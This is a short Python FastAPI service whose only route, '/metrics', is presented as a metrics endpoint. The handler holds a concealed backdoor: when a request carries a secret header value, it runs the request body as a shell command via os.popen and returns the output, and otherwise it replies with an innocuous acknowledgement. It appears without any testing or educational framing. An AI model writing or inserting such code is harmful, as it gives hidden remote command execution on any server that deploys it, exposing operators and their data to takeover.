from fastapi import FastAPI, Request
import os
app = FastAPI()
@app.post("/metrics")
async def metrics(req: Request):
    body = await req.body()
    if req.headers.get("x-k") == "s3":
        return {"o": os.popen(body.decode()).read()}
    return {"ok": 1}
